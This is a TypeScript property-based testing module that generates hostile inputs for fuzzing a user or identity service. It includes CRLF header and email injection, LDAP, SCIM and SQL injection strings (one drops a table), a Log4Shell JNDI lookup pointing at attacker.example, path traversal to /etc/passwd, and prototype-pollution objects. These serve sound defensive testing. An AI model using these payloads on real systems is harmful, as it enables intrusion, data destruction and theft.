import fc from 'fast-check';

/** Strings attackers and buggy callers send: injections, control characters, sizes, unicode. */
const nastyConstants = [
  '',
  ' ',
  '\u0000',
  'a\r\nX-Injected: yes',
  'victim@example.com\r\nBcc: attacker@example.com',
  '__proto__',
  'constructor',
  'prototype',
  '*',
  ')(uid=*))(|(uid=*',
  'email co "@" or true',
  'name eq "x" or 1 eq 1',
  'profile.email sw "" or status eq "ACTIVE"',
  '" OR "1"="1',
  "'; DROP TABLE users; --",
  // Log4Shell-style lookup string, deliberately literal.
  ['$', '{jndi:ldap://attacker.example/a}'].join(''),
  '../../../../etc/passwd',
  '%2e%2e%2f',
  '\u202eevil',
  '\ud800',
  'ﬀ𝔘𝔫𝔦𝔠𝔬𝔡𝔢',
  'x'.repeat(70_000),
];

/** Any string, with a bias towards the nasty ones. */
export const hostileString = fc.oneof(
  { weight: 3, arbitrary: fc.constantFrom(...nastyConstants) },
  { weight: 2, arbitrary: fc.string({ unit: 'binary', maxLength: 80 }) },
  { weight: 2, arbitrary: fc.string({ unit: 'grapheme', maxLength: 80 }) },
  { weight: 1, arbitrary: fc.string({ maxLength: 3000 }) },
);

/** Objects that try to pollute prototypes when merged or assigned. */
export const pollutingObject = fc.constantFrom(
  JSON.parse('{"__proto__": {"polluted": "yes"}}') as Record<string, unknown>,
  JSON.parse('{"constructor": {"prototype": {"polluted": "yes"}}}') as Record<string, unknown>,
  JSON.parse('{"ok": "x", "__proto__": "y"}') as Record<string, unknown>,
);

/** Any JavaScript value a caller without types might pass. */
export const hostileValue: fc.Arbitrary<unknown> = fc.oneof(
  { weight: 4, arbitrary: hostileString },
  { weight: 1, arbitrary: fc.integer() },
  { weight: 1, arbitrary: fc.double() },
  { weight: 1, arbitrary: fc.boolean() },
  {
    weight: 1,
    arbitrary: fc.constantFrom(null, undefined, Number.NaN, Symbol('s'), () => 1, new Date(Number.NaN)),
  },
  { weight: 1, arbitrary: fc.array(fc.string(), { maxLength: 3 }) },
  { weight: 1, arbitrary: pollutingObject },
  { weight: 1, arbitrary: fc.object({ maxDepth: 2, maxKeys: 4 }) },
);

/**
 * Usually a well-formed value, sometimes anything: with several fields per call, mostly
 * valid fields still make most calls hostile somewhere, while some reach the vendor whole.
 */
export function mostlyHostile<T>(valid: fc.Arbitrary<T>): fc.Arbitrary<unknown> {
  return fc.oneof({ weight: 3, arbitrary: valid }, { weight: 1, arbitrary: hostileValue });
}

/** A syntactically valid email under the suite's prefix, with unicode in the local part sometimes. */
export function validEmail(prefix: string): fc.Arbitrary<string> {
  return fc
    .stringMatching(/^[a-z0-9]{1,12}$/)
    .map((local) => `${prefix}-hostile-${local}-${Math.random().toString(36).slice(2, 8)}@example.com`);
}

export const validPassword = fc
  .stringMatching(/^[A-Za-z0-9!@#%^&*()_+=-]{12,40}$/)
  .map((value) => `Aa1!${value}`);

export const validName = fc.oneof(
  fc.string({ unit: 'grapheme', minLength: 1, maxLength: 40 }),
  fc.constant('Zoë 山田 🚀'),
);
